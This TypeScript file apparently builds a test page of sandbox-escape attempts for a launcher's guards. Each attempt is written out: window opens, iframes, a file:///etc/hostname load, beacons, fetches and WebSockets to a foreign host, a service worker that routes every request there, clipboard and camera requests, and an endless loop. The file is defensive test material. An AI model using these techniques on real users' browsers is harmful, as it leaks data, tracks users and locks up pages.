/**
 * `/attaques`: everything that a page might try in order to get out of the launcher's window, each behind an element
 * with a known id, so that a test can try the guards one at a time. Nothing is tried before a click.
 */
import { Html } from './html.ts';

/** Lets the attempts run: the launcher's guards are under test here, not the page's own policy. */
export const ATTACK_POLICY =
  "default-src * data: blob:; script-src 'self' 'unsafe-inline'; style-src 'self' 'unsafe-inline'; form-action *";

/** Each attempt by the id of its element: what a click does, in JavaScript. `A` is the address of the other host. */
const ATTEMPTS: Readonly<Record<string, string>> = {
  fenetre: "window.open(A + '/fenetre')",
  'fenetre-vide': "const w = window.open('about:blank'); if (w) w.location = A + '/fenetre-vide'",
  'fenetre-interne': "window.open('/AccesDirect/TableauDeBord')",
  script: "location.href = A + '/script'",
  cadre: "add('iframe', { src: A + '/cadre' })",
  objet: "add('object', { data: A + '/objet', type: 'text/html' })",
  'cadre-blob':
    "add('iframe', { src: URL.createObjectURL(new Blob(['<p>blob</p>'], { type: 'text/html' })) })",
  blob: "location.href = URL.createObjectURL(new Blob(['<p>blob</p>'], { type: 'text/html' }))",
  donnees: "location.href = 'data:text/html,<p>data</p>'",
  fichier: "location.href = 'file:///etc/hostname'",
  schema: "location.href = 'dmp-direct://ouvrir'",
  image: "add('img', { src: A + '/image.png' })",
  requete: "fetch(A + '/requete', { mode: 'no-cors' }).then(() => say('passée'), () => say('refusée'))",
  balise: "say(navigator.sendBeacon(A + '/balise', 'x') ? 'acceptée' : 'refusée')",
  prise: "const s = new WebSocket(A.replace('https', 'wss') + '/prise'); s.onerror = () => say('refusée')",
  feuille: "add('link', { rel: 'stylesheet', href: A + '/feuille.css' })",
  prefetch: "add('link', { rel: 'prefetch', href: A + '/prefetch' })",
  ping: "const l = Object.assign(document.createElement('a'), { href: '#', ping: A + '/ping' }); document.body.append(l); l.click()",
  module: "import(A + '/module.js').then(() => say('passé'), () => say('refusé'))",
  travailleur:
    "new Worker(URL.createObjectURL(new Blob([`fetch('${A}/travailleur', { mode: 'no-cors' })`])))",
  service:
    "navigator.serviceWorker.register('/attaques/service.js').then(() => say('inscrit'), () => say('refusé'))",
  telecharger:
    "add('a', { href: A + '/fichier.zip', download: 'fichier.zip', id: 'fichier-zip' }); document.getElementById('fichier-zip').click()",
  incorpore: "add('embed', { src: A + '/incorpore', type: 'text/html' })",
  cadres: "add('iframe', { src: '/attaques/redirection' })",
  'cadre-donnees': "add('iframe', { src: 'data:text/html,<p>data</p>' })",
  dessus: "add('iframe', { srcdoc: `<script>top.location = '${A}/dessus'</` + 'script>' })",
  position: "navigator.geolocation.getCurrentPosition(() => say('accordée'), () => say('refusée'))",
  notification: 'Notification.requestPermission().then(say)',
  camera:
    "navigator.mediaDevices.getUserMedia({ video: true }).then(() => say('accordée'), () => say('refusée'))",
  'presse-papiers': "navigator.clipboard.readText().then(() => say('accordée'), () => say('refusée'))",
  'plein-ecran':
    "document.documentElement.requestFullscreen().then(() => say('accordé'), () => say('refusé'))",
  'vitale-cadre':
    "add('iframe', { srcdoc: '<script>parent.postMessage({service:\"vitale\"}, \"*\")</' + 'script>' })",
  dialogue: "alert('Une boîte du site'); say('fermée')",
  retenir: 'window.onbeforeunload = () => true',
  boucle: 'for (;;);',
};

/** `foreign` is the origin of the host that must never hear from the launcher. */
export function attackPage(foreign: string): Html {
  const buttons = Object.keys(ATTEMPTS)
    .map((id) => `<button class="discret" id="${id}">${id}</button>`)
    .join('\n');
  const handlers = Object.entries(ATTEMPTS)
    .map(([id, action]) => `on(${JSON.stringify(id)}, () => { ${action}; });`)
    .join('\n');
  return new Html(`<!doctype html>
<html lang="fr"><head><meta charset="utf-8"><title>Essais de garde</title>
<link rel="stylesheet" href="/statique/style.css"><link rel="icon" href="data:,"></head>
<body><main data-page="attaques"><h1>Essais de garde</h1>
<p class="chapeau">Chaque commande essaie de sortir de la fenêtre. Aucune ne doit y parvenir.</p>
<p class="actions">
<a id="lien" href="${foreign}/lien">lien étranger</a>
<a id="lien-onglet" href="${foreign}/lien-onglet" target="_blank">lien étranger, autre onglet</a>
<a id="courriel" href="mailto:quelquun@exemple.fr">courriel</a>
<a id="redirection" href="/attaques/redirection">redirection</a>
<a id="rafraichissement" href="/attaques/rafraichissement">rafraîchissement</a>
<a id="telechargement" href="/attaques/telechargement">téléchargement</a>
<a id="telechargement-etranger" href="${foreign}/programme.exe" download>téléchargement étranger</a>
</p>
<form id="formulaire" method="post" action="${foreign}/formulaire"><button class="discret" id="envoyer">formulaire</button></form>
<p class="actions">${buttons}</p><p class="retour" id="resultat" role="status"></p></main>
<script>
const A = ${JSON.stringify(foreign)};
const say = (text) => { document.querySelector('#resultat').textContent = text; };
const add = (tag, attributes) => document.body.append(Object.assign(document.createElement(tag), attributes));
const on = (id, action) => document.getElementById(id).addEventListener('click', action);
${handlers}
</script></body></html>`);
}

/** A page that sends its reader elsewhere by a meta refresh. */
export function refreshPage(foreign: string): Html {
  return new Html(
    `<!doctype html><html lang="fr"><head><meta charset="utf-8"><title>Rafraîchissement</title>` +
      `<meta http-equiv="refresh" content="0;url=${foreign}/rafraichissement"></head><body></body></html>`,
  );
}

/** A service worker that asks the other host for something as soon as it is installed, and in place of every page. */
export function serviceWorker(foreign: string): string {
  return `
self.addEventListener('install', (event) => {
  event.waitUntil(fetch('${foreign}/service-installe', { mode: 'no-cors' }).catch(() => undefined));
});
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  event.respondWith(fetch('${foreign}/service', { mode: 'no-cors' }).catch(() => fetch(event.request)));
});`;
}
